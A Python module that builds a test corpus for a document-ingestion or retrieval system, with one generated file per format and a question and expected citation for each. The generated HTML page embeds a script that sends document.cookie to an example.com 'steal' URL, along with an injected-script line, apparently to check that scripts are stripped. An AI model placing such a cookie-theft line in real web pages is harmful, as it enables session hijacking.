"""A generated corpus with one document of each non-PDF format, each holding one fact and the place it is in.

`make_corpus(folder)` writes a Word file, a PowerPoint deck, a workbook, a CSV, a web page, a Markdown file, a text
file, an e-mail with a workbook attached, and a PNG of printed text, with python-docx, python-pptx, openpyxl, the
email module and Pillow (the `formats` and `test` extras). Each comes with a question that only it answers and the
place it should be cited at. Used by the tests (tests/ingest/test_formats_corpus.py) and by `python -m rag.bench
ingest --formats` (ingest speed per type).

Hands on: `Case`s (file name, kind, question, expected place, a word the answer holds).
"""

from __future__ import annotations

import io
from dataclasses import dataclass
from email.message import EmailMessage
from email.utils import format_datetime
from datetime import datetime, timezone
from pathlib import Path

FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    question: str
    place: str | None  # None: cited by page ("page 1")
    page: int
    answer: str  # a word or figure the right passage holds


def make_corpus(folder: Path, rows: int = 60, lines: int = 100, image: bool = True) -> list[Case]:
    """Write one document of each format into `folder`; the cases to ask about them."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = [
        _docx(folder / "supply-agreement.docx"),
        _pptx(folder / "quarterly-review.pptx"),
        _xlsx(folder / "regional-revenue.xlsx", rows),
        _csv(folder / "tram-stops.csv", rows),
        _html(folder / "pricing-page.html"),
        _markdown(folder / "install-guide.md"),
        _text(folder / "operations-notes.txt", lines),
        _email(folder / "q3-figures.eml"),
    ]
    if image:
        cases.append(_png(folder / "parking-receipt.png"))
    return cases


def _docx(path: Path) -> Case:
    import docx

    document = docx.Document()
    document.add_heading("Supply Agreement", level=0)
    document.add_paragraph("This agreement is made between Northwind Traders and Contoso Foods.")
    document.add_heading("Terms", level=1)
    document.add_paragraph("The agreement runs for three years from signature.")
    document.add_heading("Payment", level=2)
    document.add_paragraph("Invoices are payable within 45 days of delivery, by bank transfer to the account "
                           "named on the invoice.")
    document.add_heading("Delivery", level=2)
    document.add_paragraph("Goods are shipped from the Leeds warehouse every Tuesday.")
    document.add_heading("Prices", level=1)
    table = document.add_table(rows=1, cols=3)
    for cell, text in zip(table.rows[0].cells, ("Product", "2023", "2024")):
        cell.text = text
    for product, old, new in (("Olive oil (litre)", "£6.20", "£6.80"), ("Basmati rice (kg)", "£2.10", "£2.35"),
                              ("Saffron (gram)", "£9.90", "£11.40")):
        for cell, text in zip(table.add_row().cells, (product, old, new)):
            cell.text = text
    document.save(path)
    return Case(path.name, "docx", "Within how many days of delivery are invoices payable?", "Terms › Payment", 3, "45")


def _pptx(path: Path) -> Case:
    import pptx
    from pptx.util import Inches

    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[0])
    slide.shapes.title.text = "Quarterly review"
    slide.placeholders[1].text = "Fabrikam engineering, third quarter"
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Hiring plan"
    slide.placeholders[1].text = "Fourteen engineers to hire by December"
    slide.notes_slide.notes_text_frame.text = "The new Lisbon office opens in March, with room for forty people."
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "Cloud costs"
    shape = slide.shapes.add_table(3, 3, Inches(1), Inches(2), Inches(6), Inches(1.5))
    for r, row in enumerate((("Service", "Q2", "Q3"), ("Storage", "$8,100", "$9,400"), ("Compute", "$21,000",
                                                                                        "$19,700"))):
        for c, text in enumerate(row):
            shape.table.cell(r, c).text = text
    deck.save(path)
    return Case(path.name, "pptx", "When does the new Lisbon office open?", "slide 2", 2, "March")


REGIONS = ["Aberdeen", "Bristol", "Cardiff", "Dundee", "Exeter", "Falkirk", "Glasgow", "Hull", "Inverness", "Jersey"]


def _xlsx(path: Path, rows: int) -> Case:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Revenue"
    sheet.append(["Region", "Q1", "Q2"])
    for number in range(rows):
        name = REGIONS[number % len(REGIONS)] + f" district {number + 1}"
        sheet.append([name, 1000 + 7 * number, 1100 + 9 * number])
    special = rows - 3  # a row in the last block
    sheet.cell(row=special + 2, column=1, value="Tasmania")
    sheet.cell(row=special + 2, column=3, value=48_250)
    other = book.create_sheet("Costs")
    other.append(["Item", "Amount"])
    other.append(["Rent", 12_000])
    book.save(path)
    first = 2 + ((special) // 50) * 50
    last = min(first + 49, rows + 1)
    return Case(path.name, "xlsx", "What was the Q2 revenue of Tasmania?", f"sheet Revenue, rows {first}–{last}",
                1 + special // 50, "48250")


def _csv(path: Path, rows: int) -> Case:
    import csv

    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Stop", "Line", "Opened"])
        for number in range(rows):
            writer.writerow([f"Stop {number + 1}", "Blue" if number % 2 else "Green", 1990 + number % 30])
        writer.writerow(["Wimbledon Chase", "Red", "1997"])
    first = 2 + (rows // 50) * 50
    return Case(path.name, "csv", "In which year did the Wimbledon Chase tram stop open?",
                f"rows {first}–{rows + 2}", 1 + rows // 50, "1997")


def _html(path: Path) -> Case:
    path.write_text("""<!doctype html>
<html><head><title>Pricing</title><script>fetch('https://example.com/steal?c=' + document.cookie)</script>
<style>body { color: red }</style></head>
<body>
<h1>Pricing</h1>
<p>Plans start at 9 dollars a month. <img src="https://example.com/pixel.gif" alt=""></p>
<h2>Refunds</h2>
<p>Refunds are issued within 30 days of a cancelled order, to the original card.</p>
<script>document.write('INJECTED SCRIPT TEXT')</script>
<h2>Plans</h2>
<table><tr><th>Plan</th><th>Monthly</th><th>Yearly</th></tr>
<tr><td>Basic</td><td>$9</td><td>$90</td></tr><tr><td>Team</td><td>$29</td><td>$290</td></tr></table>
</body></html>""", encoding="utf-8")
    return Case(path.name, "html", "Within how many days are refunds issued for a cancelled order?",
                "Pricing › Refunds", 2, "30")


def _markdown(path: Path) -> Case:
    path.write_text("""# Install

Tailspin runs on Linux and macOS.

## Linux

Run the installer with the `--prefix /opt/tailspin` flag, then add `/opt/tailspin/bin` to your PATH.

## macOS

Use the disk image from the releases page.

| Platform | Minimum memory | Disk |
|---|---|---|
| Linux | 2 GB | 500 MB |
| macOS | 4 GB | 700 MB |
""", encoding="utf-8")
    return Case(path.name, "markdown", "Which prefix flag does the Linux installer take?", "Install › Linux", 2,
                "/opt/tailspin")


def _text(path: Path, lines: int) -> Case:
    body = [f"Log entry {n}: routine check of rack {n % 12}, all fans nominal." for n in range(1, lines + 1)]
    at = min(57, lines)
    body[at - 1] = "The backup generator is tested on the first Monday of every month by Margaret Okafor."
    path.write_text("\n".join(body) + "\n", encoding="utf-8")
    first = (at - 1) // 40 * 40 + 1
    return Case(path.name, "text", "When is the backup generator tested?", f"lines {first}–{min(first + 39, lines)}",
                1 + (at - 1) // 40, "Monday")


def _email(path: Path) -> Case:
    import openpyxl

    message = EmailMessage()
    message["From"] = "Priya Raman <priya@example.com>"
    message["To"] = "finance@example.com"
    message["Subject"] = "Re: Q3 figures"
    message["Date"] = format_datetime(datetime(2024, 5, 2, 9, 30, tzinfo=timezone.utc))
    message.set_content("Hello all,\n\nThird quarter revenue came in at 4.2 million euros, ahead of plan.\n"
                        "The budget for next quarter is attached.\n\nPriya\n")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Q1"
    sheet.append(["Team", "Budget"])
    sheet.append(["Marketing", 73_500])
    sheet.append(["Research", 120_000])
    buffer = io.BytesIO()
    book.save(buffer)
    message.add_attachment(buffer.getvalue(), maintype="application",
                           subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet", filename="budget.xlsx")
    path.write_bytes(bytes(message))
    return Case(path.name, "email", "What is the marketing team's budget in Q1?",
                "attachment budget.xlsx, sheet Q1, rows 2–3", 2, "73500")


def _png(path: Path) -> Case:
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("L", (1400, 360), 255)
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype(str(FONT), 40) if FONT.is_file() else ImageFont.load_default()
    for row, line in enumerate(("Harbour Street car park", "Parking receipt", "Total paid: 14.60 pounds by card",
                                "Thank you for visiting")):
        draw.text((60, 40 + row * 75), line, fill=0, font=font)
    image.save(path, dpi=(300, 300))
    return Case(path.name, "image", "How much was paid at the Harbour Street car park?", None, 1, "14.60")


def make_large(folder: Path, scale: int = 1) -> dict[str, Path]:
    """One larger document per format for the ingest benchmark (`python -m rag.bench ingest --formats`): about
    `scale` x (200 sections, 60 slides, 5,000 sheet rows, 20,000 CSV rows, 5,000 lines), kind -> path."""
    import csv

    import docx
    import openpyxl
    import pptx

    folder.mkdir(parents=True, exist_ok=True)
    words = ("The committee reviewed the supplier contracts, the delivery schedule and the budget for the "
             "coming quarter, and asked for a revised forecast by the end of the month.")
    paths: dict[str, Path] = {}
    document = docx.Document()
    for n in range(200 * scale):
        document.add_heading(f"Section {n + 1}", level=1 + n % 2)
        document.add_paragraph(f"{words} Item {n}.")
    paths["docx"] = folder / "large.docx"
    document.save(paths["docx"])
    deck = pptx.Presentation()
    for n in range(60 * scale):
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = f"Slide {n + 1}"
        slide.placeholders[1].text = words
        slide.notes_slide.notes_text_frame.text = f"Speaker note {n}: {words}"
    paths["pptx"] = folder / "large.pptx"
    deck.save(paths["pptx"])
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Region", "Q1", "Q2", "Q3", "Q4"])
    for n in range(5000 * scale):
        sheet.append([f"Region {n}", n, n * 2, n * 3, n * 4])
    paths["xlsx"] = folder / "large.xlsx"
    book.save(paths["xlsx"])
    paths["csv"] = folder / "large.csv"
    with open(paths["csv"], "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "amount", "date"])
        writer.writerows([n, f"Customer {n}", n * 3.5, f"2024-01-{1 + n % 28:02d}"] for n in range(20000 * scale))
    sections = "".join(f"<h2>Section {n}</h2><p>{words}</p><script>x={n}</script>" for n in range(200 * scale))
    paths["html"] = folder / "large.html"
    paths["html"].write_text(f"<!doctype html><html><body><h1>Report</h1>{sections}</body></html>")
    paths["markdown"] = folder / "large.md"
    paths["markdown"].write_text("# Report\n\n" + "".join(f"## Section {n}\n\n{words}\n\n" for n in range(200 * scale)))
    paths["text"] = folder / "large.txt"
    paths["text"].write_text("\n".join(f"{n}: {words}" for n in range(5000 * scale)))
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@example.com", "b@example.com", "Quarterly pack"
    message["Date"] = format_datetime(datetime(2024, 5, 2, tzinfo=timezone.utc))
    message.set_content("\n".join([words] * 50))
    message.add_attachment(paths["docx"].read_bytes(), maintype="application", subtype="octet-stream",
                           filename="pack.docx")
    paths["email"] = folder / "large.eml"
    paths["email"].write_bytes(bytes(message))
    return paths
